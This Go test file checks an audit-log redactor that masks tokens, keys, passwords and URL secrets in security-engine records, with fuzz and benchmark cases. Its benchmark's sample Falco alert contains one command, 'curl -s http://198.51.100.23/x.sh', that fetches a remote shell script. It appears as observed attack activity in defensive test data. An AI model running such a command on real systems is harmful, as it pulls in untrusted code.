package audit

import (
	"encoding/json"
	"strings"
	"testing"
)

func TestRedactorRecord(t *testing.T) {
	type result struct {
		Before string `json:"before"`
		Token  string `json:"api_token"`
	}
	tests := []struct {
		name string
		cfg  RedactConfig
		in   Record
		want string // the redacted record's message + data as JSON
	}{
		{"bearer header in step params", RedactConfig{},
			Record{Data: map[string]any{"params": map[string]any{"headers": map[string]any{"Authorization": "Bearer abcdefghijkl"}, "url": "https://x"}}},
			`|{"params":{"headers":{"Authorization":"[redacted]"},"url":"https://x"}}`},
		{"sensitive key fragments, any case", RedactConfig{},
			Record{Data: map[string]any{"X-Auth-Token": "t", "client_secret": "s", "Password": "p", "name": "ok"}},
			`|{"Password":"[redacted]","X-Auth-Token":"[redacted]","client_secret":"[redacted]","name":"ok"}`},
		{"token shapes inside text", RedactConfig{},
			Record{Message: "posted with xoxb-123456789012-abcdef and ghp_abcdefghijklmnopqrstuvwxyz012345, key AKIAIOSFODNN7EXAMPLE",
				Data: map[string]any{"list": []any{"Bearer zzzzzzzzzzzz", 3}, "labels": map[string]string{"note": "url?token=abc&x=1"}}},
			`posted with [redacted] and [redacted], key [redacted]|{"labels":{"note":"url?[redacted]\u0026x=1"},"list":["[redacted]",3]}`},
		{"user keys and patterns", RedactConfig{Keys: []string{"customer_ref"}, Patterns: []string{`ACME-\d{6}`}},
			Record{Message: "order ACME-123456", Data: map[string]any{"customer_ref": "C-1", "customer": "C-2"}},
			`order [redacted]|{"customer":"C-2","customer_ref":"[redacted]"}`},
		{"struct values are redacted in their JSON form", RedactConfig{},
			Record{Data: map[string]any{"output": result{Before: "Bearer abcdefghijkl", Token: "tok"}}},
			`|{"output":{"api_token":"[redacted]","before":"[redacted]"}}`},
		{"no defaults", RedactConfig{NoDefaults: true, Keys: []string{"pin"}},
			Record{Message: "Bearer abcdefghijkl", Data: map[string]any{"token": "kept", "PIN": "1234"}},
			`Bearer abcdefghijkl|{"PIN":"[redacted]","token":"kept"}`},
		{"numbers, bools and nil are kept", RedactConfig{},
			Record{Data: map[string]any{"attempts": 2, "ok": true, "none": nil}},
			`|{"attempts":2,"none":null,"ok":true}`},
		{"raw JSON is redacted in its decoded form", RedactConfig{},
			Record{Data: map[string]any{"body": json.RawMessage(` {"n": 1.50, "token": "x", "t": "<Bearer abcdefghijkl>", "l": [1e3, "ok"]} `), "none": json.RawMessage(nil)}},
			`|{"body":{"l":[1000,"ok"],"n":1.5,"t":"\u003c[redacted]\u003e","token":"[redacted]"},"none":null}`},
		{"nested nil maps and slices are written empty, as always", RedactConfig{},
			Record{Data: map[string]any{"labels": map[string]string(nil), "params": map[string]any(nil), "list": []any(nil), "names": []string(nil)}},
			`|{"labels":{},"list":[],"names":[],"params":{}}`},
		{"a secret deep in an otherwise clean record", RedactConfig{},
			Record{Data: map[string]any{"a": map[string]any{"b": []any{"x", map[string]string{"k": "v", "c": "Bearer abcdefghijkl"}}, "d": "e"}, "f": []string{"g", "passwd=h"}}},
			`|{"a":{"b":["x",{"c":"[redacted]","k":"v"}],"d":"e"},"f":["g","[redacted]"]}`},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r, err := NewRedactor(tc.cfg)
			if err != nil {
				t.Fatal(err)
			}
			before, _ := json.Marshal(tc.in.Data)
			out := r.Record(tc.in)
			data, _ := json.Marshal(out.Data)
			if got := out.Message + "|" + string(data); got != tc.want {
				t.Errorf("got  %s\nwant %s", got, tc.want)
			}
			if after, _ := json.Marshal(tc.in.Data); string(after) != string(before) {
				t.Errorf("the input was modified: %s", after)
			}
		})
	}
}

func TestNewRedactorRejectsBadPatterns(t *testing.T) {
	_, err := NewRedactor(RedactConfig{Patterns: []string{"ok", "(unclosed"}})
	if err == nil || !strings.Contains(err.Error(), `"(unclosed"`) {
		t.Fatalf("err = %v, want one naming the pattern", err)
	}
}

// TestRedactURLs: user-info and every query value not on the safe list are
// redacted wherever a URL appears (params.url, a message, a label); Slack
// incoming webhook paths are redacted by shape.
func TestRedactURLs(t *testing.T) {
	r, err := NewRedactor(RedactConfig{SafeQueryKeys: []string{"Tenant"}})
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct{ in, want string }{
		{"https://alice:s3cr3t@hooks.example.com/x", "https://[redacted]@hooks.example.com/x"},
		{"https://only-a-token@hooks.example.com", "https://[redacted]@hooks.example.com"},
		{"https://hooks.example.com/x?sig=abc123&severity=critical&se=2026&tenant=acme", "https://hooks.example.com/x?sig=[redacted]&severity=critical&se=[redacted]&tenant=acme"},
		{"https://h.example/cb?opaque-value", "https://h.example/cb?[redacted]"},
		{"https://h.example/cb#access_token=xyz", "https://h.example/cb#[redacted]"},
		{"https://h.example/docs#section-2", "https://h.example/docs#section-2"},
		{"POST https://u:p@h.example/a?code=42 failed; see http://wiki.example/page?v=2", "POST https://[redacted]@h.example/a?code=[redacted] failed; see http://wiki.example/page?v=2"},
		{"https://hooks.slack.com/services/T000/B000/XXXXXXXXXXXXXXXX", "https://[redacted]"},
		{"https://plain.example/path/only", "https://plain.example/path/only"},
		{"no url here: a=b&c=d", "no url here: a=b&c=d"},
	} {
		if got := r.String(tc.in); got != tc.want {
			t.Errorf("String(%q)\n got %q\nwant %q", tc.in, got, tc.want)
		}
	}
	rec := r.Record(Record{Data: map[string]any{"params": map[string]any{"url": "https://x:pw@h.example/hook?sig=deadbeef"}}})
	b, _ := json.Marshal(rec.Data)
	if strings.Contains(string(b), "deadbeef") || strings.Contains(string(b), "pw@") {
		t.Fatalf("params.url kept a secret: %s", b)
	}
}

// slowRedactor is r without its shortcuts: every pattern and the URL
// rewrite run on every string, as before the shortcuts existed.
func slowRedactor(r *Redactor) *Redactor {
	slow := *r
	slow.exhaustive = true
	return &slow
}

// redactCorpus holds strings near and in every default pattern, in both
// cases, with and without non-ASCII folds of their letters.
var redactCorpus = []string{
	"", "plain text", "Bearer abcdefghijkl", "BEARER   abc.def/ghi=", "bearer short",
	"xoxb-123456789012-abcdef", "xoxp-1234567890", "xapp-1-A0123456789", "XAPP-1-A0123456789",
	"ghp_abcdefghijklmnopqrstuvwxyz012345", "GHP_abcdefghijklmnopqrstuvwxyz012345", "ghs_0123456789abcdefghij",
	"key AKIAIOSFODNN7EXAMPLE.", "ASIAIOSFODNN7EXAMPLE", "akiaiosfodnn7example",
	"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.abcdefghijkl", "EYJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.abcdefghijkl",
	"url?token=abc&x=1", "PassWord=hunter2", "passwd=x", "SECRET=y z", "apikey=k", "API_KEY=k", "api-key=k",
	"Token=\u212a", "ſecret=x", "to\u212aen=x", "https://hooks.slack.com/services/T000/B000/XXXX", "HOOKS.SLACK.COM/workflows/abc",
	"https://alice:s3cr3t@hooks.example.com/x?sig=abc", "bearer\u00a0abcdefghijkl", "Beare\u0280 abcdefghijkl",
	"see https://runbooks.example/cart and http://u@h/", "https://h.example/a#b=c", "https://h.example/a?x=1", "https://plain.example/path",
}

// TestRedactPrefiltersChangeNothing: the prefilters only skip patterns that
// cannot match, and the URL rewrite is skipped only on text it would leave
// as it is, so redacting with the shortcuts gives what running everything
// gives, for the default patterns and for user ones.
func TestRedactPrefiltersChangeNothing(t *testing.T) {
	for _, cfg := range []RedactConfig{{}, {Patterns: []string{`x*`, `ACME-\d{6}`}}} {
		r, err := NewRedactor(cfg)
		if err != nil {
			t.Fatal(err)
		}
		slow := slowRedactor(r)
		filtered := 0
		for _, s := range redactCorpus {
			for _, p := range r.patterns {
				if p.re.MatchString(s) && !p.need.mayMatch(s, isASCII(s)) {
					t.Errorf("pattern %s matches %q but its prefilter says it cannot", p.re, s)
				}
				if !p.need.mayMatch(s, isASCII(s)) {
					filtered++
				}
			}
			checkScan(t, r, s)
			if got, want := r.String(s), slow.String(s); got != want {
				t.Errorf("String(%q) = %q, without prefilters %q", s, got, want)
			}
		}
		if filtered == 0 {
			t.Errorf("no prefilter skipped anything over the corpus")
		}
	}
}

// checkScan fails t unless the one-pass scan finds, for an ASCII s, the
// same patterns as their prefilters one by one.
func checkScan(t *testing.T, r *Redactor, s string) {
	t.Helper()
	if !isASCII(s) {
		return
	}
	may := r.scan(s)
	for i, p := range r.patterns {
		if p.need == nil {
			continue
		}
		if got, want := may&(1<<i) != 0, p.need.mayMatch(s, true); got != want {
			t.Errorf("scan(%q) says pattern %s may match: %v, its prefilter: %v", s, p.re, got, want)
		}
	}
}

// TestReplacementMakesNoLiteral: String scans once, before replacing, which
// holds only if putting Redacted in place of a match cannot create a
// prefilter literal: Redacted contains none and no literal contains a
// bracket, so none can straddle its edges.
func TestReplacementMakesNoLiteral(t *testing.T) {
	for _, n := range defaultNeeds {
		for _, l := range n.literals {
			if strings.ContainsAny(l, "[]") || strings.Contains(strings.ToLower(Redacted), strings.ToLower(l)) {
				t.Errorf("literal %q breaks the single scan", l)
			}
		}
	}
}

// FuzzRedactPrefilters checks the same on any input.
func FuzzRedactPrefilters(f *testing.F) {
	for _, s := range redactCorpus {
		f.Add(s)
	}
	r, err := NewRedactor(RedactConfig{})
	if err != nil {
		f.Fatal(err)
	}
	slow := slowRedactor(r)
	f.Fuzz(func(t *testing.T, s string) {
		checkScan(t, r, s)
		if got, want := r.String(s), slow.String(s); got != want {
			t.Fatalf("String(%q) = %q, without prefilters %q", s, got, want)
		}
	})
}

// BenchmarkRedactRecord redacts records shaped like the engine's per
// event: received (labels), matched (rule, saw) and a step's dry run
// (params with a URL and a body, a summary).
//
//	go test -run '^$' -bench BenchmarkRedactRecord ./engine/audit/
func BenchmarkRedactRecord(b *testing.B) {
	r, err := NewRedactor(RedactConfig{})
	if err != nil {
		b.Fatal(err)
	}
	recs := []Record{
		{Kind: KindReceived, EventID: "falco:3f1c6b0e-8a2d-4b7e-9c1a-5d2e7f9a0b14", Message: "Unexpected outbound connection destination firing (warning)",
			Data: map[string]any{"labels": map[string]string{"k8s.ns.name": "shop", "k8s.pod.name": "cart-api-6d8f9c7b5-x2lkq", "proc.cmdline": "curl -s http://198.51.100.23/x.sh", "user.name": "root"}}},
		{Kind: KindMatched, Playbook: "contain", Outcome: "matched", Data: map[string]any{"rule": `event.source == "falco" && event.labels["k8s.ns.name"] != "kube-system"`, "mode": "shadow",
			"saw": map[string]any{"event.source": "falco", `event.labels["k8s.ns.name"]`: "shop"}}},
		{Kind: KindStepDryRun, Playbook: "contain", Action: "webhook.notify", Target: "https://hooks.example.com/fire", Message: "would run (mode: shadow): POST https://hooks.example.com/fire",
			Data: map[string]any{"params": map[string]any{"url": "https://hooks.example.com/fire", "body": map[string]any{"alert": "Unexpected outbound connection destination", "namespace": "shop"}}}},
	}
	b.ReportAllocs()
	for b.Loop() {
		for _, rec := range recs {
			_ = r.Record(rec)
		}
	}
}
